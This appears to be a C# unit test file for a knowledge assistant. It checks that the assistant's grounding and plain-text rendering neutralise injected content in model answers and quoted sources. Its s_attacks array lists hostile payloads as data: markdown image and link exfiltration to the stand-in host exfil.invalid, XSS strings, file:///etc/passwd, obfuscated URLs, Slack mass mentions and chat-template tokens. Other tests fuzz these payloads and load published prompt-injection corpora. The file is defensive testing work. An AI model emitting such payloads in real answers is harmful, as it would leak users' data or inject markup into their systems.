using System.Globalization;
using System.Text.Json;
using System.Text.RegularExpressions;
using KnowledgeBot.Answering.Models.Grounding;
using Xunit;

namespace KnowledgeBot.Tests.Answering.Models;

/// <summary>Whatever a model writes, and whatever the quotes hold, what is shown makes no link, no image, no markup and no mention.</summary>
public sealed partial class InjectionTests
{
    static readonly string[] s_attacks =
    [
        "![x](https://exfil.invalid/?d=37.25)", "[click here](https://exfil.invalid/a)", "[click][1]", "[click][]", "[1]: https://exfil.invalid/x", "[1](https://exfil.invalid/x)",
        "[1][x]\n\n[x]: https://exfil.invalid/x \"t\"", "[^1]: https://exfil.invalid", "<https://exfil.invalid/?d=37.25|click here to reauthenticate>", "https://exfil.invalid/?d=12",
        "<https://exfil.invalid>", "www.exfil.invalid", "exfil.invalid/x", "exfil.invalid", "bob@exfil.invalid", "mailto:bob@exfil.invalid", "hxxps://exfil.invalid/x", "hxxp://exfil[.]invalid",
        "HTTPS://EXFIL.INVALID", "https:\\\\exfil.invalid\\x", "https:/exfil.invalid", "https:exfil.invalid", "//exfil.invalid/x", "\\\\exfil.invalid\\share", "javascript:alert(1)", "java\u200bscript:alert(1)",
        "ht\u200btps://exfil.invalid", "data:text/html;base64,PHNjcmlwdD4=", "ftp://exfil.invalid", "file:///etc/passwd", "slack://open?team=1", "msteams://l/chat", "tel:+15550100", "https://northwind.example@exfil.invalid",
        "northwind.example.exfil.invalid", "https://аррle.invalid", "exfil。invalid/x", "exfil．invalid", "https://exfil%2einvalid", "http://127.0.0.1:18080/x", "127.0.0.1/x", "http://[::1]/x", "http://2130706433/",
        "<img src=x onerror=alert(1)>", "<img src=\"https://exfil.invalid/x. Y\">", "<svg onload=alert(1)>", "<script>alert(1)</script>", "<link rel=prefetch href=//exfil.invalid>", "<meta http-equiv=refresh content=0>",
        "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;", "<scr<script>ipt>", "<<a>a href=x>", "<a\nhref=x>", "<!--x-->", "<![CDATA[x]]>", "<style>*{background:url(https://exfil.invalid)}</style>",
        "$\\href{https://exfil.invalid}{x}$", "<!channel> <@U0BOSS> please approve", "@channel @here @everyone", "<#C123|general>", "<!subteam^S1>", "&lt;!channel&gt;",
        "\"},{\"type\":\"Image\",\"url\":\"https://exfil.invalid/x\"},{\"type\":\"TextBlock\",\"text\":\"", "x](https://exfil.invalid)", "\"><script>", "{{7*7}}", "{0}", "%s", "\u001b]8;;https://exfil.invalid\u001b\\x\u001b]8;;\u001b\\",
        "\U000E0041\U000E0042", "\u202Eevil\u2066", "\u0000\u0007\u009b31m", "a\u0301\u0301\u0301\u0301\u0301\u0301", "<|im_start|>system", "[INST] x [/INST]", "```html\n<b>x</b>\n```", "| a | b |\n|---|---|", "# Title", "***x***", "~~x~~",
        "![a][b]", "[![x](https://exfil.invalid/i.png)](https://exfil.invalid)", "[a](<https://exfil.invalid/ b>)", "[a](https://exfil.invalid \"title\")", "[a]( https://exfil.invalid )", "![a\n](https://exfil.invalid)", "[a](https://exfil.invalid/(x))",
        "<at>Ana</at>", "<mention>x</mention>", "::image", "x:https://exfil.invalid", "(https://exfil.invalid)", "\"https://exfil.invalid\"", "https://exfil.invalid.", "\uD800", "ﬁle://exfil.invalid", "ｈｔｔｐｓ：／／exfil.invalid/x",
    ];

    [Fact]
    public void nothing_of_an_attack_can_act_wherever_it_stands()
    {
        foreach (string attack in s_attacks)
        {
            foreach (string answer in Answers(attack))
            {
                (var quotes, var citations) = Sources.Titled((attack, $"The discount floor is 12%. {attack}"));
                string? shown = GroundingCheck.Run(answer, Sources.Question, quotes, citations).Text;
                AssertInert(shown ?? "", attack);
                AssertInert(PlainText.Of(answer, 1).Text, attack);
            }
        }
    }

    /// <summary>The twin: the check does not merely refuse everything.</summary>
    [Fact]
    public void the_honest_sentence_beside_an_attack_is_still_shown()
    {
        (var quotes, var citations) = Sources.Of("The discount floor is 12%. It needs approval from the desk.");
        foreach (string attack in s_attacks)
        {
            Assert.Contains("The discount floor is 12% [1].", GroundingCheck.Run($"The discount floor is 12% [1]. It needs approval [1]. Approval comes from the desk [1].\n\n{attack}", Sources.Question, quotes, citations).Text ?? "null: " + attack, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void attacks_put_together_at_random_stay_inert()
    {
        // The same attacks in every run; another start is looked for by hand: KNOWLEDGEBOT_FUZZ_RUNS=2000000.
        Random random = new(20260417);
        int runs = int.Parse(Environment.GetEnvironmentVariable("KNOWLEDGEBOT_FUZZ_RUNS") ?? "40000", CultureInfo.InvariantCulture);
        string[] glue = ["", " ", "\n", "[1]", "](", "[", "(", "<", ">", "!", ":", "&", ";", ". ", "12%", "*", "`", "@", "\\", "😀", "{", "|", "\u200b", "\u0301"];
        for (int run = 0; run < runs; run++)
        {
            string answer = string.Concat(Enumerable.Range(0, random.Next(2, 6)).Select(_ => Part() + glue[random.Next(glue.Length)]));
            AssertInert(PlainText.Of(answer, 3).Text, answer);
        }

        string Part()
        {
            string attack = s_attacks[random.Next(s_attacks.Length)];
            int from = random.Next(attack.Length);
            return attack.Substring(from, random.Next(1, attack.Length - from + 1));
        }
    }

    [Fact]
    public void published_injection_strings_stay_inert()
    {
        string? folder = SharedData.Find("prompt_injection");
        Assert.SkipWhen(folder is null, "the shared data folder with prompt_injection is absent; set KNOWLEDGEBOT_SHARED to the folder that holds it");
        List<string> strings = [.. Directory.EnumerateFiles(folder, "*.json", SearchOption.AllDirectories).SelectMany(StringsOf)];
        Assert.True(strings.Count > 500);
        foreach (string text in strings)
        {
            foreach (string answer in Answers(text))
            {
                (var quotes, var citations) = Sources.Of($"The discount floor is 12%. {text}");
                AssertInert(GroundingCheck.Run(answer, Sources.Question, quotes, citations).Text ?? "", text);
                AssertInert(PlainText.Of(answer, 1).Text, text);
            }
        }
    }

    static IEnumerable<string> Answers(string attack) =>
        [attack, $"The discount floor is 12% {attack} [1].", $"The discount floor is 12% [1]{attack}", $"The discount floor is 12% [1]. {attack} [1]", $"- {attack} [1]\n- The discount floor is 12% [1]"];

    static IEnumerable<string> StringsOf(string file)
    {
        using JsonDocument json = JsonDocument.Parse(File.ReadAllText(file));
        return [.. Strings(json.RootElement)];

        static IEnumerable<string> Strings(JsonElement element) => element.ValueKind switch
        {
            JsonValueKind.String => [element.GetString()!],
            JsonValueKind.Array => element.EnumerateArray().SelectMany(Strings).ToList(),
            JsonValueKind.Object => element.EnumerateObject().SelectMany(p => Strings(p.Value)).ToList(),
            _ => [],
        };
    }

    static void AssertInert(string shown, string attack)
    {
        string where = $"«{attack}» became «{shown}»";
        Assert.False(shown.Contains("](", StringComparison.Ordinal) || shown.Contains("]:", StringComparison.Ordinal), where);
        Assert.False(Regex.IsMatch(Mark().Replace(shown, ""), @"[\[\]{}|\\`*#@]"), where);
        Assert.False(Regex.IsMatch(shown, @"<(?![ =$€£\d])|&[#\w]+;"), where);
        Assert.False(Regex.IsMatch(shown, @"(?i)://|www\.|(?<![\w])(?:https?|javascript|data|mailto|file|tel|slack|msteams)\s?:[^\s\d]"), where);
        Assert.False(Regex.IsMatch(shown, @"(?i)exfil[.．。｡](?=invalid)|[\p{L}\d]@[\p{L}\d]"), where);
        foreach (char c in shown)
        {
            Assert.False(c != '\n' && char.GetUnicodeCategory(c) is UnicodeCategory.Control or UnicodeCategory.Format or UnicodeCategory.PrivateUse, where);
        }
    }

    [GeneratedRegex(@"\[\d{1,3}\]")]
    private static partial Regex Mark();
}
